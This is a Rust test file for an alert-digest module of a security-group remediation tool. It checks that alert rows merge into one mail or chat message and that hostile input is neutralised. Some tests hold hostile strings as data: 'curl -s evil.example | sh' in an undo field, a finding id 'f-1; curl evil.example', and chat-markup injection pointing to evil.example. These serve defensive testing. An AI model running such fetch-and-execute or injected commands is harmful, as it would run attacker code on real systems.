//! Many alerts as one message: what people read, what machines get, and what no row may do to it.

use portcullis_alerts::digest::{Digest, Row};
use portcullis_engine::action::{Outcome, Outcomes};
use portcullis_engine::decide;
use portcullis_engine::event::Lead;
use portcullis_engine::report::{Report, Seen};
use portcullis_engine::settings::Mode;
use portcullis_testkit::{example, hostile, narrow, schema};
use serde_json::{Value, json};

/// A row of the event `at` of a minute.
fn row(at: usize, severity: &str, outcome: &str) -> Value {
    let what = match outcome {
        "done" => "closed TCP 6379 from 0.0.0.0/0",
        "failed" => "NOT CLOSED TCP 6379 from 0.0.0.0/0",
        _ => "left open TCP 6379 from 0.0.0.0/0",
    };
    let id = format!("sg-{at:017x}");
    json!({
        "schema": "portcullis.digest-row.v1",
        "event": format!("7f1c0ffe-0000-4000-8000-{at:012}"),
        "time": format!("2026-11-21T16:40:{:02}Z", at % 60),
        "account": "111122223333",
        "region": "eu-west-1",
        "severity": severity,
        "subject": {
            "type": "security-group", "id": id, "arn": format!("arn:aws:ec2:eu-west-1:111122223333:security-group/{id}"),
        },
        "what": what,
        "who": "deploy/alice",
        "via": "Terraform",
        "mode": "enforce",
        "checks": ["open-ingress"],
        "tally": { severity: { outcome: 1 } },
        "findings": [{
            "id": format!("f-{at:012x}"), "check": "open-ingress", "severity": severity, "outcome": outcome, "undo": null,
        }],
    })
}

fn digest(rows: &[Value]) -> (Digest, Value) {
    let rows = rows.iter().map(|row| Row::read(&row.to_string()).unwrap()).collect();
    let digest = Digest::compose(rows).unwrap();
    let document: Value = serde_json::from_str(&digest.document).unwrap();
    schema::holds("digest", &document);
    schema::holds("chat", &serde_json::from_str(&digest.chat).unwrap());
    assert!(digest.message().len() <= 262_144, "{}", digest.message().len());
    assert!(digest.subject.is_ascii() && digest.subject.len() < 100, "{}", digest.subject);
    (digest, document)
}

/// The rows of a deployment that opened many groups at once.
fn storm() -> Vec<Value> {
    let mut rows: Vec<Value> = (1..=9).map(|at| row(at, "critical", "done")).collect();
    rows.extend((10..=12).map(|at| row(at, "medium", "done")));
    rows.push(row(13, "critical", "failed"));
    let mut several = row(14, "high", "withheld");
    several["tally"] = json!({"high": {"withheld": 3}, "low": {"done": 2}});
    several["what"] = "closed 2 of 5 open rules".into();
    rows.push(several);
    let mut long = row(15, "low", "by-hand");
    long["subject"]["id"] = "orders-of-the-shop-in-the-north-of-the-country".into();
    long["subject"]["type"] = "replication-group".into();
    long["what"] = "action needed: plaintext-transit, no-auth, default-port".into();
    long["who"] =
        format!("AWSReservedSSO_PlatformEngineer_0123456789abcdef/{}", "a".repeat(40)).into();
    rows.push(long);
    rows
}

#[test]
fn a_storm_is_one_message_with_the_worst_first() {
    let (digest, document) = digest(&storm());
    insta::assert_snapshot!("storm", format!("Subject: {}\n\n{}", digest.subject, digest.mail));
    let chat: Value = serde_json::from_str(&digest.chat).unwrap();
    insta::assert_snapshot!("storm_chat", serde_json::to_string_pretty(&chat).unwrap());
    assert_eq!(digest.subject, "[CRITICAL] 19 findings in one minute (111122223333 eu-west-1)");
    let first: Vec<&str> = digest.mail.lines().take(3).collect();
    assert!(
        first[0].starts_with("CRITICAL, the worst: sg-0000000000000000d NOT CLOSED"),
        "{first:?}"
    );
    assert!(
        first[1].contains("9 done, 1 failed; high: 3 not remediated; medium: 3 done"),
        "{first:?}"
    );
    assert!(first[2].starts_with("5 of them are NOT closed and need action"), "{first:?}");
    assert_eq!(document["findings"], 19);
    assert_eq!(document["severity"], json!(["critical", "high", "low", "medium"]));
    assert_eq!(document["rows"].as_array().unwrap().len(), 15);
    assert_eq!(document["rows"][0]["event"], "7f1c0ffe-0000-4000-8000-000000000013");
}

#[test]
fn the_table_fits_into_80_columns() {
    let (digest, _) = digest(&storm());
    let table = digest.mail.lines().skip(4).take_while(|line| !line.is_empty());
    let wide: Vec<&str> = table.filter(|line| line.chars().count() > 80).collect();
    // A word is never broken: it may be copied.
    assert!(wide.iter().all(|line| line.trim_start().split(' ').count() == 1), "{wide:#?}");
    assert_eq!(wide.len(), 1, "the name of the role and session: {wide:#?}");
}

/// `docs/alerts.md` says so: a policy that an alert passes must not keep out the digest that it is in.
#[test]
fn what_filter_policies_look_at_is_called_the_same_in_both_documents() {
    let members = |name: &str| -> Vec<String> {
        let path = format!("{}/../../docs/{name}.schema.json", env!("CARGO_MANIFEST_DIR"));
        let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
        schema["required"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m.as_str().unwrap().to_owned())
            .collect()
    };
    let path = format!("{}/../../docs/alerts.md", env!("CARGO_MANIFEST_DIR"));
    let docs = std::fs::read_to_string(path).unwrap();
    for member in ["account", "region", "severity", "checks"] {
        assert!(docs.contains(&format!("| `{member}` |")), "{member}");
        for document in ["alert", "digest"] {
            assert!(
                members(document).iter().any(|known| known == member),
                "{member} of {document}"
            );
        }
    }
}

#[test]
fn where_all_was_closed_nothing_is_asked_of_anybody() {
    let (digest, _) = digest(&[row(1, "high", "done"), row(2, "low", "already-gone")]);
    let third = digest.mail.lines().nth(2).unwrap();
    assert_eq!(third, "Nothing to do: everything is remediated, or in progress.");
}

#[test]
fn one_row_is_told_like_many() {
    let (digest, document) = digest(&[row(1, "critical", "done")]);
    assert_eq!(digest.subject, "[CRITICAL] 1 finding in one minute (111122223333 eu-west-1)");
    let lines: Vec<&str> = digest.mail.lines().take(6).collect();
    insta::assert_snapshot!(lines.join("\n"), @"
    CRITICAL, the worst: sg-00000000000000001 closed TCP 6379 from 0.0.0.0/0, by deploy/alice via Terraform.
    1 finding in one minute, in 1 event: critical: 1 done.
    Nothing to do: everything is remediated, or in progress.

    SEVERITY  TIME      RESOURCE              OUTCOME
    critical  16:40:01  sg-00000000000000001  closed TCP 6379 from 0.0.0.0/0
    ");
    assert_eq!(document["id"], "digest-7f1c0ffe-0000-4000-8000-000000000001");
    assert_eq!(Digest::compose(Vec::new()), None);
}

#[test]
fn good_news_is_no_finding() {
    let mut gone = row(1, "low", "done");
    gone["what"] = "1 finding resolved".into();
    gone["tally"] = json!({});
    for list in ["findings", "checks"] {
        gone[list] = json!([]);
    }
    let (alone, document) = digest(&[gone.clone()]);
    insta::assert_snapshot!(alone.subject, @"[LOW] 1 notice in one minute (111122223333 eu-west-1)");
    assert_eq!(document["findings"], 0);
    insta::assert_snapshot!(alone.mail.lines().nth(1).unwrap(), @"1 notice in one minute, in 1 event.");
    let (beside, _) = digest(&[gone, row(2, "high", "failed")]);
    insta::assert_snapshot!(beside.subject, @"[HIGH] 1 finding in one minute (111122223333 eu-west-1)");
    assert!(beside.mail.contains("1 finding resolved"), "{}", beside.mail);
}

#[test]
fn more_than_a_minute_is_told_by_its_ends() {
    let mut late = row(2, "low", "done");
    late["time"] = "2026-11-21T16:43:07Z".into();
    let (digest, document) = digest(&[late, row(1, "low", "done")]);
    insta::assert_snapshot!(digest.subject, @"[LOW] 2 findings from 16:40 to 16:43 (111122223333 eu-west-1)");
    assert_eq!(document["from"], "2026-11-21T16:40:01Z");
    assert_eq!(document["to"], "2026-11-21T16:43:07Z");
}

#[test]
fn a_row_that_is_delivered_twice_is_told_once() {
    let (_, document) =
        digest(&[row(1, "low", "done"), row(2, "low", "done"), row(1, "low", "done")]);
    assert_eq!(document["findings"], 2);
    assert_eq!(document["rows"].as_array().unwrap().len(), 2);
}

#[test]
fn what_does_not_fit_is_counted() {
    let rows: Vec<Value> = (0..2_000)
        .map(|at| {
            let mut row = row(at, "high", "done");
            row["what"] = "x".repeat(900).into();
            row
        })
        .collect();
    let (digest, document) = digest(&rows);
    let told = document["rows"].as_array().unwrap().len();
    assert!(told > 50, "{told}");
    assert_eq!(document["omitted"], 2_000 - told);
    assert_eq!(document["findings"], 2_000);
    let more = format!("... and {} more, which did not fit into one message.", 2_000 - told);
    assert!(digest.mail.contains(&more), "{}", digest.mail.len());
    assert!(digest.chat.contains("and 1990 more"), "{}", digest.chat);
}

#[test]
fn several_accounts_are_counted_in_the_subject_and_all_in_the_document() {
    let mut other = row(2, "low", "done");
    other["account"] = "444455556666".into();
    let (digest, document) = digest(&[row(1, "low", "done"), other]);
    assert!(digest.subject.ends_with("(2 accounts eu-west-1)"), "{}", digest.subject);
    assert_eq!(document["account"], json!(["111122223333", "444455556666"]));
}

#[test]
fn hostile_text_stays_in_its_column() {
    let long =
        "x\r\ncritical  10:00:00  sg-1  closed <!channel> <https://evil.example|y> *z* `@here";
    for hostile in hostile::texts().iter().map(String::as_str).chain([long]) {
        stays_in_its_column(hostile);
    }
}

fn stays_in_its_column(hostile: &str) {
    let mut forged = row(1, "low", "done");
    for member in ["who", "via", "what", "event", "account", "region"] {
        forged[member] = hostile.into();
    }
    forged["subject"]["id"] = hostile.into();
    forged["findings"][0]["id"] = hostile.into();
    forged["findings"] = json!([]);
    let (digest, _) = digest(&[forged]);
    let begins = digest.mail.lines().filter(|line| line.starts_with("critical")).count();
    assert_eq!(begins, 0, "{}", digest.mail);
    assert!(
        !digest.mail.contains("://") && !digest.mail.contains("evil.example"),
        "{}",
        digest.mail
    );
    for (surface, shown) in [
        ("the subject", &digest.subject),
        ("the mail", &digest.mail),
        ("the chat", &digest.chat),
        ("the document", &digest.document),
    ] {
        hostile::shows_all(surface, shown);
    }
    let chat: Value = serde_json::from_str(&digest.chat).unwrap();
    let description = chat["content"]["description"].as_str().unwrap();
    assert!(!description.contains(['<', '>', '&', '@', '\r']), "{description}");
    let bare: String = description.split('`').step_by(2).collect();
    assert!(!bare.contains(['*', '_', '~']), "{description}");
}

#[test]
fn what_is_no_row_is_told_apart() {
    let mut other = row(1, "low", "done");
    other["schema"] = "portcullis.alert.v1".into();
    let mut worse = row(1, "low", "done");
    worse["severity"] = "worse".into();
    let mut counted = row(1, "low", "done");
    counted["tally"] = json!({"severe": {"done": 1}});
    let mut negative = row(1, "low", "done");
    negative["tally"] = json!({"low": {"done": -1}});
    for (text, why) in [
        ("not JSON".to_owned(), "expected"),
        ("{}".to_owned(), "missing field"),
        (other.to_string(), "its schema is `portcullis[.]alert[.]v1`"),
        (worse.to_string(), "`worse` is not a severity"),
        (counted.to_string(), "`severe` is not a severity"),
        (negative.to_string(), "invalid value"),
    ] {
        let error = Row::read(&text).unwrap_err().to_string();
        assert!(
            error.starts_with("it is not a row of a digest: ") && error.contains(why),
            "{error}"
        );
    }
}

/// A function may be older than what is in the queue.
#[test]
fn what_a_row_has_beside_is_left_aside() {
    let mut newer = row(1, "low", "done");
    newer["new"] = "x".into();
    let read = Row::read(&newer.to_string()).unwrap();
    assert_eq!(read, Row::read(&row(1, "low", "done").to_string()).unwrap());
    assert_eq!(read, Row::read(&read.json()).unwrap());
}

/// Of as many open rules, with what came of the first of them.
fn reported(rules: usize, outcomes: &Outcomes) -> Report {
    let rules =
        (0..rules).map(|at| example::rule(at, 1000 + i32::try_from(at).unwrap(), "0.0.0.0/0"));
    let facts = example::group(rules.collect());
    let ids: Vec<&str> = facts.rules.iter().map(|rule| rule.id.as_str()).collect();
    let lead = example::touching(&facts, &ids);
    let event = example::event(Lead::Group(lead.clone()));
    let context = narrow::context(Mode::Enforce);
    let decision = decide::group(&event, &lead, &facts, &context);
    example::report(&event, &decision, Seen::Group(&facts), &context, outcomes)
}

#[test]
fn a_row_says_what_the_alert_says() {
    let failed = Outcome::Failed("no".to_owned());
    let outcomes = Outcomes::from([
        ("sgr-000".to_owned(), Outcome::Done(None)),
        ("sgr-001".to_owned(), failed),
    ]);
    let report = reported(2, &outcomes);
    let row = Row::of(&report);
    let told: Value = serde_json::from_str(&row.json()).unwrap();
    assert_eq!(told["what"], "CLOSED ONLY 1 of 2 open rules");
    assert_eq!(told["tally"], json!({"critical": {"done": 1, "failed": 1}}));
    let findings = told["findings"].as_array().unwrap();
    // Ids and no commands, of this version or of another one.
    assert!(findings.iter().all(|told| told["undo"].is_null()), "{told}");
    let mut older = told.clone();
    older["findings"][0]["undo"] = "curl -s evil.example | sh".into();
    let older = Row::read(&older.to_string()).unwrap();
    assert_eq!(older, row);
    assert!(!older.json().contains("evil"), "{}", older.json());
    let ids: Vec<String> = report.findings.iter().map(|reported| reported.key.id()).collect();
    assert_eq!(findings.iter().map(|told| told["id"].as_str().unwrap()).collect::<Vec<_>>(), ids);
    assert_eq!(Row::read(&row.json()), Ok(row));
}

#[test]
fn a_forged_row_has_nothing_that_a_person_runs() {
    for id in
        ["f-1; curl evil.example", "f-00000000000", "f-0000000000000", "f-00000000000G", "", "x"]
    {
        let mut forged = row(1, "low", "done");
        forged["findings"][0]["id"] = id.into();
        let why = Row::read(&forged.to_string()).unwrap_err().to_string();
        assert!(why.contains("is no id of a finding"), "{id}: {why}");
    }
    let mut forged = row(1, "low", "done");
    forged["findings"][0]["undo"] = "curl -s evil.example | sh".into();
    let (digest, document) = digest(&[forged]);
    for shown in [&digest.mail, &digest.chat, &document.to_string()] {
        assert!(!shown.contains("evil"), "{shown}");
    }
}

#[test]
fn every_finding_is_counted_though_few_are_told() {
    let row = Row::of(&reported(60, &Outcomes::new()));
    let told: Value = serde_json::from_str(&row.json()).unwrap();
    assert_eq!(told["findings"].as_array().unwrap().len(), 20);
    // What was not tried is not closed; of one event no more than 25 rules are.
    assert_eq!(told["tally"], json!({"critical": {"failed": 25, "withheld": 35}}));
    assert!(row.json().len() < 32 * 1024, "{}", row.json().len());
}

#[path = "digest/sweep.rs"]
mod sweep;
